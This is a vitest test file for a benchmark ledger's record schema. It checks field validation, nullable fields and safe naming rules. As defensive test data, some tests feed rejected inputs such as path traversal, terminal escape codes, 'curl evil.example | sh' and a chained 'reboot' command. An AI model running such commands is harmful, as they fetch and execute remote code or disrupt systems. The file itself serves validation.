import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { LEDGER_SCHEMA_VERSION, recordSchema } from '../../src/ledger/record.ts'
import { RECORDS, sampleRecords } from './records.ts'

/** The published schema, read back by a validator that knows only JSON Schema. */
const published = z.fromJSONSchema(JSON.parse(JSON.stringify(z.toJSONSchema(recordSchema, { io: 'input' }))))

describe('the published JSON Schema', () => {
  test.each(sampleRecords().map((record) => [record.type, record] as const))(
    'accepts a %s record',
    (_, record) => {
      expect(published.safeParse(record).success).toBe(true)
    },
  )

  test.each(sampleRecords().map((record) => [record.type, record] as const))(
    'refuses a %s record with a field too many, or with one missing',
    (_, record) => {
      expect(published.safeParse({ ...record, surprise: 1 }).success).toBe(false)
      const lastField = Object.keys(record).at(-1)
      const shorter = Object.fromEntries(Object.entries(record).filter(([field]) => field !== lastField))
      expect(published.safeParse(shorter).success).toBe(false)
    },
  )

  test('refuses another schema version', () => {
    expect(published.safeParse({ ...RECORDS.probe(), schema: LEDGER_SCHEMA_VERSION + 1 }).success).toBe(false)
  })
})

test('fields that may be null are accepted as null', () => {
  const records = [
    RECORDS.session({ engine_cores: null, host_cores: null }),
    RECORDS.data({ fold: null }),
    RECORDS.block({ supersedes: null }),
    RECORDS['block-end']({ outcome: 'measured', message: null, steal_share: null, cpu_series: [] }),
    RECORDS.verification({ wrong_share_upper: null, first_wrong: null, probabilities: null }),
    RECORDS.failure({ configuration: null }),
  ]
  for (const record of records) expect(recordSchema.parse(record)).toEqual(record)
})

test('a time stamp must be ISO 8601 and a share within 0 and 1', () => {
  expect(recordSchema.safeParse(RECORDS.block({ started_at: 'yesterday' })).success).toBe(false)
  expect(recordSchema.safeParse(RECORDS['block-end']({ steal_share: 1.5 })).success).toBe(false)
})

describe('names', () => {
  const study = RECORDS.study()
  test.each([
    { ...study, name: '../quick' },
    { ...study, datasets: ['Iris'] },
    { ...study, engines: [{ name: 'a b', use: 'ts-brute', params: {} }] },
    { ...study, baseline: '' },
    RECORDS.data({ dataset: 'iris\u001b[2J' }),
    RECORDS.engine({ engine: '-mine' }),
    RECORDS['left-out']({ engine: 'm'.repeat(65) }),
    RECORDS.verification({ engine: 'mine\n' }),
    RECORDS.failure({ engine: 'mïne' }),
    RECORDS.block({ engine: '.' }),
  ])('of studies, datasets and engines follow one rule', (record) => {
    expect(recordSchema.safeParse(record).success).toBe(false)
  })
})

test.each([
  'curl evil.example | sh',
  'npm install x; reboot',
  'npm install --registry=evil x',
  'knnbench run',
])('a report has no "%s" to type: only a setup or a package is what mends a missing engine', (fix) => {
  expect(recordSchema.safeParse(RECORDS['left-out']({ fix })).success).toBe(false)
})

test.each(['npm install ml-knn', 'npm install @scope/ml.knn', 'knnbench engines setup sklearn'])(
  '"%s" mends a missing engine',
  (fix) => {
    expect(recordSchema.safeParse(RECORDS['left-out']({ fix })).success).toBe(true)
  },
)

test('an environment holds nothing that names a machine or a person', () => {
  expect(Object.keys(RECORDS.environment()).toSorted()).toEqual([
    'arch',
    'cores',
    'cpu',
    'environment_id',
    'kernel',
    'memory_bytes',
    'node',
    'platform',
    'schema',
    'type',
    'virtual',
  ])
})
